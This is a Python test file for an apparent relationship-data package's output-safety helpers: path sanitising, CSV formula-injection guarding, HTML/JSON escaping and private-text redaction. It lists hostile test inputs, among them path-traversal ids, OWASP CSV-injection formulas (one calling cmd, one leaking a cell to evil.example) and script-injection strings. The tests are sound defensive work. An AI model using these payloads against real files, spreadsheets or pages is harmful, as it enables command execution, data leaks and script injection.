"""Output safety helpers: path components, CSV formula injection, HTML/JSON escaping,
redaction. Oracles: the OWASP CSV-injection payload list (published), Python's own
``csv``/``json``/``html.parser`` modules reading back what we wrote (independent), and
known-truth hostile ids."""

from __future__ import annotations

import csv
import html
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from _analyses import NOT_ANALYSES, _analysis_calls
from patterns import consent, privacy, pseudonymize, schema
from patterns.privacy import (
    BIDI_CONTROLS,
    FORMULA_PREFIXES,
    FREE_TEXT_COLUMNS,
    escape_html,
    json_for_html,
    redact_frame,
    safe_cell,
    safe_csv,
    safe_frame,
    safe_join,
    safe_path_component,
)

HOSTILE_IDS = [
    "../../etc",
    "..",
    ".",
    "/etc/passwd",
    "C:\\Windows\\system32",
    "\\\\server\\share",
    "CON",
    "nul.txt",
    "Com1",
    "LPT9.log",
    "a\x00b",
    "evil\u202egnp.exe",  # right-to-left override
    "zero\u200bwidth",
    "line\nbreak",
    "x" * 500,
    "",
    " ",
    "...",
    "-rf",
    ".hidden",
    "Zoë",
    "Zoe\u0308",  # same name, decomposed
    "名前",
    "trailing. ",
    "a/b",
    "a_b",
]

SAFE_NAME = re.compile(r"^[A-Za-z0-9_][A-Za-z0-9._-]*$")
RESERVED = re.compile(r"^(con|prn|aux|nul|com\d|lpt\d)(\..*)?$", re.IGNORECASE)


# --- safe_path_component ------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE_IDS)
def test_hostile_ids_stay_inside_folder(tmp_path: Path, value: str) -> None:
    name = safe_path_component(value)
    assert SAFE_NAME.match(name), name
    assert name not in {".", ".."}
    assert not RESERVED.match(name), name
    assert len(name) <= 64
    assert not name.endswith((".", " "))
    # independent check: the OS resolves it to a direct child of tmp_path
    target = tmp_path / name
    target.mkdir()
    assert target.resolve().parent == tmp_path.resolve()
    assert safe_path_component(value) == name  # stable


def test_plain_ids_unchanged_and_changed_ones_hashed() -> None:
    assert safe_path_component("couple_01") == "couple_01"
    assert safe_path_component("c-1.v2") == "c-1.v2"
    out = safe_path_component("../../etc")
    assert re.fullmatch(r"etc-[0-9a-f]{8}", out)
    # distinct ids that slug alike stay distinct thanks to the hash
    assert safe_path_component("a/b") != safe_path_component("a_b") == "a_b"
    assert safe_path_component("Zoë") != safe_path_component("Zoe")
    # a crafted id that looks like another's slug is suffixed again
    crafted = safe_path_component("../../etc")
    assert safe_path_component(crafted) != crafted


def test_max_len_respected_and_readable() -> None:
    out = safe_path_component("couple-" + "x" * 300, max_len=20)
    assert len(out) == 20 and out.startswith("couple-x")


@pytest.mark.parametrize("bad", [0, 15, "64", 3.5, True])
def test_max_len_errors(bad) -> None:
    with pytest.raises(ValueError, match="safe_path_component: max_len must be an integer ≥ 16"):
        safe_path_component("c1", max_len=bad)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=120), st.text(max_size=120))
def test_path_component_property(a: str, b: str) -> None:
    na, nb = safe_path_component(a), safe_path_component(b)
    assert SAFE_NAME.match(na) and len(na) <= 64 and not RESERVED.match(na)
    if a != b:
        assert na != nb


def test_safe_join(tmp_path: Path) -> None:
    p = safe_join(tmp_path, "../../etc", "index.html")
    assert p.parent.parent == tmp_path
    assert p.name == "index.html"
    # a symlink *inside* base that points out is refused
    (tmp_path / "ok").symlink_to("/")
    with pytest.raises(ValueError, match="resolves outside"):
        safe_join(tmp_path, "ok", "etc")


# --- CSV formula injection ------------------------------------------------------------------

# OWASP "CSV Injection" page payloads (https://owasp.org/www-community/attacks/CSV_Injection)
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\x00=1+2",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_safe_cell_neutralises_owasp(payload: str) -> None:
    out = safe_cell(payload)
    assert out == "'" + payload
    assert not out.startswith("\t")  # CVE-2021-41270: never a tab prefix


@pytest.mark.parametrize("value", ["money", "", "a=b", "3 + 4", "'quoted", " =x"])
def test_safe_cell_leaves_ordinary_text(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-1, -2.5, 0, np.int64(-3), np.float64(-0.5), None, True])
def test_safe_cell_numbers_stay_numbers(value) -> None:
    assert safe_cell(value) is value


def test_formula_prefixes_match_owasp_list() -> None:
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r", "\n", "\x00"}


def _hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "topic": pd.Series([*OWASP_PAYLOADS, "money", None], dtype="string"),
            "label": pd.Series([*OWASP_PAYLOADS, "fine", None], dtype=object),
            "kind": pd.Categorical([*OWASP_PAYLOADS, "x", "x"]),
            "value": np.arange(11, dtype=float) - 5.5,
            "count": np.arange(11) - 3,
            "mixed": pd.Series([-1, "=1", 2.5, "@x", None, "ok", 1, 2, 3, 4, 5], dtype=object),
            "=evil_header": 1,
        }
    )


def test_safe_frame_vs_csv_module(tmp_path: Path) -> None:
    df = _hostile_frame()
    before = df.copy()
    path = safe_csv(df, tmp_path / "out.csv")
    pd.testing.assert_frame_equal(df, before)  # input not mutated
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert header[-1] == "'=evil_header"
    assert len(body) == len(df)
    numeric = {"value", "count"}
    for row in body:
        for col, cell in zip(header, row, strict=True):
            if col in numeric:
                float(cell)  # real numbers stay numbers (negative ones included)
                continue
            if col == "mixed" and re.fullmatch(r"-?\d+(\.\d+)?", cell):
                continue  # numbers stored as numbers in an object column
            assert not cell.startswith(FORMULA_PREFIXES), (col, cell)
    # round trip: stripping the one added quote gives the original strings back
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    expected = [v if v is not None else "" for v in df["label"]]
    got = [
        v[1:] if v.startswith("'") and v[1:].startswith(FORMULA_PREFIXES) else v
        for v in back["label"]
    ]
    assert got == expected


def test_safe_frame_keeps_dtypes_and_index() -> None:
    df = _hostile_frame().set_index("label")
    out = safe_frame(df)
    assert out["value"].dtype == df["value"].dtype
    assert out["topic"].dtype == df["topic"].dtype
    assert isinstance(out["kind"].dtype, pd.CategoricalDtype)
    assert all(not str(i).startswith(FORMULA_PREFIXES) for i in out.index if i is not None)
    assert out["topic"].iloc[0] == "'" + OWASP_PAYLOADS[0]
    assert pd.isna(out["topic"].iloc[-1])


def test_safe_csv_index_option(tmp_path: Path) -> None:
    df = pd.DataFrame({"n": [1]}, index=pd.Index(["=x"], name="@k"))
    text = safe_csv(df, tmp_path / "a.csv", index=True).read_text()
    assert text.splitlines() == ["'@k,n", "'=x,1"]


# --- HTML -------------------------------------------------------------------------------------

SCRIPT_PAYLOADS = [
    "</script><script>alert(1)</script>",
    "</SCRIPT ><img src=x onerror=alert(1)>",
    "<!--<script>",
    "a\u2028b\u2029c",
    "&lt;already&gt;",
    "\"'`${x}",
]


class _ScriptCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.script: list[str] = []
        self._in = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self._in = tag == "script"

    def handle_endtag(self, tag):
        self._in = False

    def handle_data(self, data):
        if self._in:
            self.script.append(data)


@pytest.mark.parametrize("payload", SCRIPT_PAYLOADS)
def test_json_for_html_in_script_block(payload: str) -> None:
    obj = {"data": [{"topic": payload, "n": 1}], "title": payload}
    text = json_for_html(obj)
    assert json.loads(text) == obj  # still valid JSON, same object
    for ch in "<>&\u2028\u2029":
        assert ch not in text
    # independent: an HTML parser sees exactly one script element with all our JSON inside
    p = _ScriptCollector()
    p.feed(f"<html><body><script type='application/json'>{text}</script></body></html>")
    assert p.tags == ["html", "body", "script"]
    assert json.loads("".join(p.script)) == obj


@settings(max_examples=200, deadline=None)
@given(
    st.recursive(
        st.text() | st.integers() | st.booleans() | st.none(),
        lambda c: st.lists(c, max_size=4) | st.dictionaries(st.text(), c, max_size=4),
        max_leaves=20,
    )
)
def test_json_for_html_property(obj) -> None:
    text = json_for_html(obj)
    assert json.loads(text) == obj
    assert not re.search("[<>&\u2028\u2029]", text)


def test_json_for_html_passes_kwargs() -> None:
    assert json_for_html({"b": 1, "a": "<"}, sort_keys=True) == '{"a": "\\u003c", "b": 1}'
    with pytest.raises(ValueError, match="Out of range float"):
        json_for_html(float("nan"), allow_nan=False)


@pytest.mark.parametrize("payload", [*SCRIPT_PAYLOADS, '<img src=x onerror="alert(1)">'])
def test_escape_html_independent_parser(payload: str) -> None:
    out = escape_html(payload)
    p = _ScriptCollector()
    p.feed(f"<p title='{out}'>{out}</p>")
    assert p.tags == ["p"]  # no element injected
    assert html.unescape(out) == payload
    assert "<" not in out and ">" not in out and '"' not in out and "'" not in out


@pytest.mark.parametrize("value", [None, pd.NA, float("nan")])
def test_escape_html_missing(value) -> None:
    assert escape_html(value) == ""


@pytest.mark.parametrize("control", list(BIDI_CONTROLS))
def test_escape_html_drops_bidi_controls(control: str) -> None:
    import unicodedata

    # independent check: every listed character is a Unicode format control of the bidi
    # algorithm (its name says mark, embedding, override or isolate)
    assert unicodedata.category(control) == "Cf"
    assert re.search(r"MARK|EMBEDDING|OVERRIDE|ISOLATE|POP DIRECTIONAL", unicodedata.name(control))
    assert escape_html(f"paid {control}DLO <b>") == "paid DLO &lt;b&gt;"


def test_escape_html_keeps_right_to_left_text() -> None:
    # Hebrew and Arabic letters are text, not controls: kept as typed
    assert escape_html("שלום مرحبا") == "שלום مرحبا"


def test_escape_html_numbers() -> None:
    assert escape_html(3.5) == "3.5"


# --- redaction ----------------------------------------------------------------------------


def test_redact_frame_drops_every_private_schema_column() -> None:
    private = [c.name for cols in schema.TABLES.values() for c in cols if c.private]
    assert set(private) <= set(FREE_TEXT_COLUMNS)
    assert {"note", "answer"} <= set(private)
    df = pd.DataFrame(
        {"couple_id": ["c1"], "note": ["Sam"], "answer": ["x"], "name": ["Ann"], "n": [1]}
    )
    df.attrs["timezones"] = {"c1": "UTC"}
    before = df.copy()
    out = redact_frame(df)
    assert list(out.columns) == ["couple_id", "n"]
    assert out.attrs == {"timezones": {"c1": "UTC"}}
    pd.testing.assert_frame_equal(df, before)
    kept = redact_frame(df, allow_text=True)
    pd.testing.assert_frame_equal(kept, df)
    assert list(redact_frame(df, allow_text=True, extra=["n"]).columns) == [
        "couple_id",
        "note",
        "answer",
        "name",
    ]


def test_redact_frame_errors() -> None:
    with pytest.raises(ValueError, match="redact_frame: allow_text must be True or False"):
        redact_frame(pd.DataFrame(), allow_text="yes")
    with pytest.raises(ValueError, match="redact_frame: df must be a pandas DataFrame"):
        redact_frame({"note": [1]})


# --- redaction by default: every public analysis ------------------------------------------

CANARY = "Xylophona"  # a "name" planted in every note and answer


@pytest.fixture(scope="module")
def canary_export(tmp_path_factory):
    from patterns.io import load_export
    from patterns.simulate import simulate_export

    root = tmp_path_factory.mktemp("canary") / "export"
    simulate_export(couples=2, days=42, seed=3, out=root)
    ev = pd.read_csv(root / "events.csv", dtype=str, keep_default_na=False)
    ck = pd.read_csv(root / "checkins.csv", dtype=str, keep_default_na=False)
    ev.loc[ev["note"] != "", "note"] = CANARY + " said: " + ev["note"]
    ck.loc[ck["answer"] != "", "answer"] = CANARY + " wrote: " + ck["answer"]
    ev.to_csv(root / "events.csv", index=False)
    ck.to_csv(root / "checkins.csv", index=False)
    exp = load_export(root)
    assert exp.events["note"].str.contains(CANARY).sum() > 5
    assert exp.checkins["answer"].str.contains(CANARY).sum() > 5
    return exp


def test_every_public_analysis_is_covered() -> None:
    import patterns

    missing = set(patterns._LAZY) - set(_analysis_calls()) - NOT_ANALYSES
    assert not missing, f"add these public analyses to the redaction test: {sorted(missing)}"


@pytest.mark.parametrize("name", sorted(_analysis_calls()))
def test_results_carry_no_free_text(canary_export, name: str) -> None:
    from patterns.testing import assert_tidy

    result = _analysis_calls()[name](canary_export)
    assert_tidy(result)
    assert not set(result.columns) & set(FREE_TEXT_COLUMNS) - {"text"}, name
    cells = [str(c) for c in result.to_numpy().ravel()]
    leaked = [c for c in cells if CANARY in c]
    assert not leaked, (name, leaked[:2])


def test_text_shown_only_when_asked(canary_export) -> None:
    """Positive control: with the explicit argument the canary does appear, so the
    check above can fail."""
    import patterns as P

    shown = P.paired_answers(canary_export.checkins, show_text=True)
    assert any(CANARY in str(c) for c in shown.to_numpy().ravel())
    terms = P.explain_topics(canary_export.events["note"].dropna())
    assert not any(CANARY in str(c) for c in terms.to_numpy().ravel())


def _chart_calls():
    """Every public chart (patterns.charts._LAZY) built from an analysis of the canary
    export. A new chart must be added here."""
    import patterns as P
    from patterns import charts as C
    from patterns.quality import checkin_completion

    def c0(e):
        return e.couples[0]

    def episodes(e):
        return P.pursue_withdraw_episodes(e.events)

    def conflicts(e):
        return P.conflict_log(e.events, e.checkins)

    def daily(e):
        return P.daily_connection(e.checkins)

    return {
        "chart_checkin_completion": lambda e: C.chart_checkin_completion(
            checkin_completion(e.checkins)
        ),
        "chart_turning_rates": lambda e: C.chart_turning_rates(
            P.turning_rates(e.events), couple_id=c0(e)
        ),
        "chart_transitions": lambda e: C.chart_transitions(
            P.lag_table(P.code_stream(e.events.loc[e.events["couple_id"] == c0(e)]))
        ),
        "chart_episode_timeline": lambda e: C.chart_episode_timeline(
            episodes(e), couple_id=episodes(e)["couple_id"].iloc[0]
        ),
        "chart_pursuer_share": lambda e: C.chart_pursuer_share(
            P.pursuer_share(episodes(e)), couple_id=episodes(e)["couple_id"].iloc[0]
        ),
        "chart_topic_weeks": lambda e: C.chart_topic_weeks(
            P.topic_weeks(conflicts(e), events=e.events), couple_id=c0(e)
        ),
        "chart_escalation_repair": lambda e: C.chart_escalation_repair(
            P.topic_recurrence(conflicts(e), events=e.events), couple_id=c0(e)
        ),
        "chart_signal_calendar": lambda e: C.chart_signal_calendar(
            P.signal_frequency(e.checkins, period="D"), couple_id=c0(e)
        ),
        "chart_connection": lambda e: C.chart_connection(
            P.rolling_connection(daily(e)), couple_id=c0(e)
        ),
        "chart_before_after": lambda e: C.chart_before_after(
            P.intervention_effect(daily(e), intervention_date="2026-01-26", n_boot=200),
            couple_id=c0(e),
        ),
        "chart_indicators": lambda e: C.chart_indicators(P.indicators(e), couple_id=c0(e)),
    }


def test_every_chart_is_covered() -> None:
    from patterns import charts

    missing = set(charts._LAZY) - set(_chart_calls())
    assert not missing, f"add these charts to the redaction test: {sorted(missing)}"


@pytest.mark.parametrize("name", sorted(_chart_calls()))
def test_charts_carry_aggregates_only(canary_export, name: str) -> None:
    spec = _chart_calls()[name](canary_export).to_dict()
    text = json.dumps(spec)
    assert CANARY not in text
    rows = [r for data in spec.get("datasets", {}).values() for r in data]
    assert 0 < len(rows) <= 5000
    columns = {k for r in rows for k in r}
    assert not columns & {"note", "answer", "prompt"}
    html_json = json_for_html(spec)
    assert "</" not in html_json and json.loads(html_json) == spec


# --- safe_csv's Arrow writer: byte for byte what pandas writes --------------------------

_FLOATS = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([0.0, -0.0, 1.0, -2.0, 1e-4, 9.99e-5, 1e16, 9.999999999999998e15, 0.1]),
    st.floats(min_value=-1e6, max_value=1e6).map(lambda x: round(x, 3)),
)


@settings(max_examples=150, deadline=None)
@given(
    n=st.integers(0, 6),
    data=st.data(),
    text_alphabet=st.sampled_from(["abc-_ ", "abc=+@", 'ab,"\r\n']),
)
def test_arrow_csv_writer_equals_pandas(n, data, text_alphabet, tmp_path_factory) -> None:
    from patterns.privacy import _arrow_csv

    floats = data.draw(st.lists(_FLOATS, min_size=n, max_size=n))
    ints = data.draw(st.lists(st.integers(-(2**62), 2**62), min_size=n, max_size=n))
    nullable = data.draw(st.lists(st.one_of(st.none(), st.integers(-5, 5)), min_size=n, max_size=n))
    texts = data.draw(
        st.lists(st.one_of(st.none(), st.text(text_alphabet, max_size=5)), min_size=n, max_size=n)
    )
    days = data.draw(st.lists(st.integers(-400, 20000), min_size=n, max_size=n))
    df = pd.DataFrame(
        {
            "x": np.array(floats, dtype="float64"),
            "i": np.array(ints, dtype="int64"),
            "k": pd.array(nullable, dtype="Int64"),
            "s": pd.array(texts, dtype="string"),
            "d": pd.to_datetime(np.array(days, dtype="int64"), unit="D"),
        }
    )
    folder = tmp_path_factory.mktemp("csv")
    safe_csv(df, folder / "a.csv")
    safe_frame(df).to_csv(folder / "b.csv", index=False, lineterminator="\r\n")
    assert (folder / "a.csv").read_bytes() == (folder / "b.csv").read_bytes()
    if text_alphabet == "abc-_ " and n:  # nothing needs quotes: the Arrow writer was used
        assert _arrow_csv(
            safe_frame(df), folder / "c.csv", {"index": False, "lineterminator": "\r\n"}
        )


def test_arrow_csv_writer_leaves_other_layouts_to_pandas(tmp_path) -> None:
    from patterns.privacy import _arrow_csv

    kw = {"index": False, "lineterminator": "\r\n"}
    times = pd.DataFrame({"t": pd.to_datetime(["2026-01-05 07:02:40"])})
    assert not _arrow_csv(times, tmp_path / "a.csv", kw)  # a time of day: pandas' layout
    assert not _arrow_csv(pd.DataFrame({"a,b": [1]}), tmp_path / "a.csv", kw)  # quoted name
    assert not _arrow_csv(pd.DataFrame({"b": [True]}), tmp_path / "a.csv", kw)  # bool
    assert not _arrow_csv(pd.DataFrame({"a": [1]}), tmp_path / "a.csv", {**kw, "sep": ";"})
    assert not (tmp_path / "a.csv").exists()  # nothing written when it declines
    # pandas' default encoding, spelled out (as pseudonymize does), keeps the Arrow writer
    assert _arrow_csv(pd.DataFrame({"a": [1]}), tmp_path / "u.csv", {**kw, "encoding": "utf-8"})
    assert not _arrow_csv(
        pd.DataFrame({"a": [1]}), tmp_path / "l.csv", {**kw, "encoding": "latin-1"}
    )
    safe_csv(times, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text().splitlines() == ["t", "2026-01-05 07:02:40"]


def test_one_nfc_normaliser_for_consent_and_pseudonyms():
    # consent lookups and pseudonyms normalise ids with the same function (privacy._nfc),
    # not two copies that could drift apart
    assert consent._nfc is privacy._nfc
    assert pseudonymize._nfc is privacy._nfc
    composed, decomposed = "Zo\u00eb", "Zoe\u0308"
    assert composed != decomposed and privacy._nfc(decomposed) == composed
    assert privacy._nfc(composed) == composed and privacy._nfc(12) == "12"
